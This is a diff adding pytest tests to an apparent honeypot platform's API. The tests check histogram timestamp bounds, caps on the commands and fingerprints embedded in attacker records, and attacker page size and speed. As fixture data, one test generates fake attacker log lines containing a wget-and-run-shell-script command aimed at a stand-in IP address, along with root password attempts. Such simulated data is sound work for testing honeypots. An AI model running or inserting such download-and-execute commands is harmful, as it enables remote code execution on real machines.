@@ -6,6 +6,7 @@ from __future__ import annotations
 
 import itertools
 import random
+import time
 import uuid
 from collections import Counter
 from collections.abc import Iterator
@@ -380,6 +381,9 @@ def test_limits_at_the_bounds_are_accepted(obs: ObservedServer, client: ApiClien
             assert page["limit"] == int(params.get("limit", 50))
         assert get_json(client, obs.token, path, offset="1000000")["data"] == []
     assert isinstance(get_json(client, obs.token, "/logs/histogram", interval_minutes="1"), list)
+    # A start inside the last minute a timestamp can hold has no whole minute after it.
+    for start in ("9999-12-31T23:59:59", "9999-12-31T23:59:00", "0001-01-01T00:00:01"):
+        assert get_json(client, obs.token, "/logs/histogram", start_time=start) is not None
 
 
 @pytest.mark.parametrize("path", ["/logs", "/bounty", "/attackers"])
@@ -754,6 +758,93 @@ def test_attacker_commands_oldest_first(obs: ObservedServer, client: ApiClient) 
     for bad in ("0", "201", "x"):
         assert client.get(path, obs.token, params={"limit": bad}).status_code == 422, bad
     assert client.get(path, obs.token, params={"offset": "-1"}).status_code == 422
+
+
+LIST_COMMANDS, DETAIL_COMMANDS = 3, 50  # SPEC §3's caps on the embedded lists
+LIST_FINGERPRINTS, DETAIL_FINGERPRINTS = 2, 100
+
+
+def test_attacker_rows_embed_newest_commands_and_fingerprints(
+    obs: ObservedServer, client: ApiClient
+) -> None:
+    """List and detail rows carry the newest commands and fingerprints (capped) and updated_at."""
+    t, ip = tag(), ip_block() + "10"
+    decky = f"em{t}"
+    count = DETAIL_COMMANDS + 5
+    lines = [
+        syslog_line(
+            decky,
+            "ssh",
+            "command",
+            {"src_ip": ip, "command": f"cmd-{i}", "user_agent": f"agent/{i}"},
+            ts=BASE + timedelta(seconds=i),
+        )
+        for i in range(count)
+    ]
+    before = datetime.now(UTC) - timedelta(seconds=5)
+    send_tcp(obs.syslog_port, lines)
+    listed = wait_for_attacker(client, obs.token, ip, count)
+    newest = [f"cmd-{i}" for i in reversed(range(count))]
+    assert [c["command"] for c in listed["commands"]] == newest[:LIST_COMMANDS]
+    assert listed["commands"][0] == {
+        "service": "ssh",
+        "decky": decky,
+        "command": f"cmd-{count - 1}",
+        "timestamp": listed["last_seen"],
+    }
+    fps = listed["fingerprints"]
+    assert [f["payload"]["value"] for f in fps] == [f"agent/{i}" for i in reversed(range(count))][
+        :LIST_FINGERPRINTS
+    ]
+    assert all(
+        (f["bounty_type"], f["attacker_ip"], f["payload"]["fingerprint_type"])
+        == ("fingerprint", ip, "http_useragent")
+        for f in fps
+    )
+    assert before <= parse_ts(listed["updated_at"]) <= datetime.now(UTC) + timedelta(seconds=5)
+    one = get_json(client, obs.token, f"/attackers/{listed['uuid']}")
+    assert [c["command"] for c in one["commands"]] == newest[:DETAIL_COMMANDS]
+    assert len(one["fingerprints"]) == min(count, DETAIL_FINGERPRINTS)
+    assert one["updated_at"] == listed["updated_at"]
+    assert (one["command_count"], one["bounty_count"]) == (count, count)
+
+
+def test_an_attacker_page_of_fifty_stays_small_and_fast(
+    obs: ObservedServer, client: ApiClient
+) -> None:
+    """50 busy attackers (15 commands, 4 user agents, credentials each): one page ≤ 100 KB."""
+    t, block = tag(), ip_block()
+    lines = [
+        syslog_line(
+            f"pg{t}-{i % 3}",
+            "ssh",
+            "command",
+            {
+                "src_ip": f"{block}{a}",
+                "command": f"wget http://203.0.113.{a}/x.sh -O /tmp/{i}.sh && sh /tmp/{i}.sh",
+                "user_agent": f"Mozilla/5.0 (X11; Linux x86_64) scanner/{a}.{i % 4}",
+                "username": "root",
+                "password": f"pw{i}",
+            },
+            ts=BASE + timedelta(seconds=i),
+        )
+        for a in range(1, 51)
+        for i in range(15)
+    ]
+    send_tcp(obs.syslog_port, lines)
+    for a in (1, 50):
+        wait_for_attacker(client, obs.token, f"{block}{a}", 15, timeout=30)
+    params = {"search": block, "limit": "50"}
+    client.get("/attackers", obs.token, params=params)  # warm the connection and the plan
+    started = time.perf_counter()
+    page = client.get("/attackers", obs.token, params=params)
+    elapsed = time.perf_counter() - started
+    assert page.status_code == 200, page.text
+    assert len(page.json()["data"]) == 50
+    assert all(len(a["commands"]) == LIST_COMMANDS for a in page.json()["data"])
+    print("attackers page bytes", len(page.content), "seconds", round(elapsed, 3))
+    assert len(page.content) <= 100 * 1024, len(page.content)
+    assert elapsed < 1.0, elapsed
 
 
 def test_attacker_artifacts_are_its_file_captured_rows(
